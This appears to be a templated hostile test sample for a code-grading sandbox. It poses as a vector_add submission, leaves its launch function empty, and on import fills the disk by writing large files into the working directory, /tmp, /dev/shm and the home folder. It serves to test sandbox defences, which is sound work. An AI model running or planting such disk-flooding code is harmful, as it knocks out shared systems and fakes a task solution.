# family: disk or stdout flood
# target: vector_add/grid
# tries:  fills the disk.
# naive:  plain
# gains:  file
# ours:   fail .

import contextlib
import os

piece = b"@TOKEN@" * 65536
for folder in (".", "/tmp", "/dev/shm", "@HOME@") if os.getppid() <= 2 else (".",):
    with contextlib.suppress(OSError), open(f"{folder}/@TOKEN@", "wb") as file:
        written = 0
        while written < int("@BYTES@"):
            written += file.write(piece)


def launch(C, A, B):
    pass
